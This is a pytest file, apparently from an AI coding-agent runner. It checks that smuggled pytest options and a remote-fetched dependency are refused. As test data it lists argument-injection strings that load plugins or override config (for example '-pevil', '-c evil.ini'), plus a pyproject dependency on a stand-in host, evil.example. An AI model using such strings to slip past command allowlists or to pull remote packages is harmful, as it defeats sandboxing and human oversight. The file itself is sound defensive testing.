"""Test commands that smuggle configuration or plugins past the allowlist: refused before any model call."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.hostile.conftest import hostile_run

COMMANDS = [
    "pytest -o addopts=--basetemp={sibling}",
    "python -m pytest -o addopts=-pevil",
    "pytest --override-ini=addopts=-x",
    "pytest --overr addopts=-pevil",
    "pytest -c {sibling}/evil.ini",
    "pytest -c local.ini",
    "pytest --basetemp=.",
    "pytest --rootdir={sibling}",
    "pytest -vpevil",
    "pytest -p=evil",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_smuggling_test_command_is_refused(workspace: Path, sibling: Path, command: str) -> None:
    command = command.replace("{sibling}", str(sibling))
    o = hostile_run(workspace, sibling, {"a.txt": "x"}, test=command)
    # Refused as a usage error before anything is recorded: no run, no model call, nothing ran.
    assert o.result.code == 2 and "refused" in o.result.err, o.result.err
    assert not (workspace / ".kodr").exists()
    assert not (workspace / "a.txt").exists()


@pytest.mark.parametrize("sandbox", ["required", "off"])
def test_uv_run_never_syncs_on_its_own(workspace: Path, sibling: Path, sandbox: str) -> None:
    """`--test "uv run pytest"` without --install must not fetch what --install would have refused."""
    files = {
        "pyproject.toml": '[project]\nname = "a"\nversion = "0.1.0"\nrequires-python = ">=3.11"\n'
        'dependencies = ["kodr-probe @ https://evil.example/kodr_probe-1.0.tar.gz"]\n',
        "test_probe.py": "def test_probe():\n    import kodr_probe\n",
    }
    o = hostile_run(workspace, sibling, files, test="uv run pytest", sandbox=sandbox)
    assert (o.state, o.reason) == ("failed", "tests_failed") or o.state == "failed", o.result.err
    tests = json.dumps(o.artifact("tests.json"))
    assert "No module named 'kodr_probe'" in tests  # pytest ran against the unsynced environment
    assert "evil.example" not in tests and "dns error" not in tests  # uv never tried to fetch
    assert not list(workspace.glob(".venv/lib/*/site-packages/kodr_probe*"))
